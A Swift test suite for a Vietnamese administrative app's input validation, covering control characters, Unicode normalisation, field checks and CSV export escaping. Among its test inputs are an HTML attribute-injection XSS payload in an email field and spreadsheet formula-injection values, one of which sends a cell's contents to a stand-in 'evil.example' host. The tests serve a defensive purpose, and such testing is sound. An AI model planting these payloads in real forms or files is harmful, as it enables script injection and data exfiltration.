import DVKCore
import Foundation
import Testing

/// The one rule for text people send: what is kept, what is refused, the same for a
/// form, the API and a file.
@Suite struct TextInputTests {
    let title = TextRule("tên mô hình", max: 10, required: true)
    let content = TextRule("nội dung", .multiline, max: 50)

    @Test(arguments: ["\u{1C}", "\u{200B}", "\u{202E}abc", "Tổ\u{0}1", "\u{E000}x", "a\u{2028}b", "\u{FEFF}Tổ"])
    func invisibleAndControlCharactersAreRefused(text: String) {
        #expect(throws: TextProblem.self) { try title.check(text).get() }
        #expect(throws: TextProblem.self) { try content.check(text).get() }
    }

    @Test func lineBreaksAndTabsOnlyInLongText() throws {
        #expect(throws: TextProblem("tên mô hình không được xuống dòng hay có ký tự tab")) { try title.check("Tổ\n1").get() }
        #expect(throws: TextProblem.self) { try title.check("Tổ\t1").get() }
        #expect(try content.check("  Dòng 1\r\nDòng\t  2\r\n\n").get() == "Dòng 1\nDòng 2")
    }

    @Test func aRequiredFieldNeedsAVisibleLetterOrDigit() throws {
        #expect(throws: TextProblem("thiếu tên mô hình")) { try title.check("   ").get() }
        #expect(throws: TextProblem("tên mô hình cần có ít nhất một chữ cái hoặc chữ số")) { try title.check("– … –").get() }
        #expect(try title.check(" Tổ  1 ").get() == "Tổ 1")
        #expect(try TextRule("chức vụ", max: 5).check("").get() == "")
    }

    @Test func textIsStoredNFCAndBounded() throws {
        #expect(try title.check("Ho\u{0300}a").get() == "Hòa")
        #expect(try title.check(String(repeating: "ệ", count: 10)).get().count == 10)
        #expect(throws: TextProblem("tên mô hình dài quá 10 ký tự")) { try title.check(String(repeating: "ệ", count: 11)).get() }
        #expect(throws: TextProblem("nội dung công văn dài quá 20.000 ký tự")) {
            try TextRules.letterBody.check(String(repeating: "a", count: 20_001)).get()
        }
    }

    @Test func anInitiativeNamesEachBadFieldAndParsesTheRest() throws {
        var input = InitiativeInput([.kind: "tập thể", .registrantName: "\u{200B}", .sector: "văn hoá - xã hội", .title: "Lớp học",
                                     .startDate: "01/03/2024", .endDate: "2024-02-01", .continuity: "maybe"])
        guard case .failure(let problems) = input.draft(sectors: Sector.defaults) else {
            Issue.record("expected problems")
            return
        }
        #expect(problems.byField.map(\.field) == [.registrantName, .endDate, .continuity])
        #expect(problems.sentence(naming: { "cột " + $0.column }).contains("(mã U+200B) (cột registrant_name)"))
        input[.registrantName] = "Tổ  Văn phòng"
        input[.endDate] = "31/12/2024"
        input[.continuity] = nil
        let draft = try input.draft(sectors: Sector.defaults).get()
        #expect(draft.kind == .collective && draft.registrantName == "Tổ Văn phòng" && draft.sectorCode == "van-hoa-xa-hoi")
        #expect(draft.startDate == CalendarDay(year: 2024, month: 3, day: 1) && draft.continuity == .new)
        #expect(InitiativeInput(draft)[.sector] == "van-hoa-xa-hoi")
    }

    @Test func aUnitIsCheckedTheSameWayFromAFormOrAFile() throws {
        let bad = UnitInput(code: "new", name: "\u{1C}", kind: "trường học", parentCode: "X", email: "x@a.vn\"/autofocus/onfocus=\"alert(1)",
                            phone: "=HYPERLINK(\"http://evil\")")
        guard case .failure(let problems) = bad.check() else {
            Issue.record("expected problems")
            return
        }
        #expect(Set(problems.byField.keys) == [.code, .name, .kind, .email, .phone])
        let good = try UnitInput(code: " S1 ", name: "Trường  Tiểu học", kind: "cdcs", parentCode: "GD", email: "s1@example.vn",
                                 phone: "+84 24 3827 0000").check().get()
        #expect(good.code == "S1" && good.name == "Trường Tiểu học" && good.kind == .grassroots && good.parentCode == "GD")
        #expect(!UnitInput.looksLikeEmail("a@b..vn") && !UnitInput.looksLikeEmail("a b@c.vn") && UnitInput.looksLikeEmail("cd.s1+x@lb.gov.vn"))
    }

    @Test func spreadsheetsShowFormulaLikeCellsAsText() {
        let csv = CSVWriter.write(header: ["a", "b"], rows: [["=HYPERLINK(\"http://evil.example/?\"&A2,\"Xem\")", "+84 912"],
                                                            ["-1", "@SUM(A1)"], ["\tx", "bình thường"]])
        let lines = csv.components(separatedBy: "\r\n")
        #expect(lines[1] == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Xem\"\")\",'+84 912")
        #expect(lines[2] == "'-1,'@SUM(A1)")
        #expect(lines[3] == "'\tx,bình thường")
    }
}
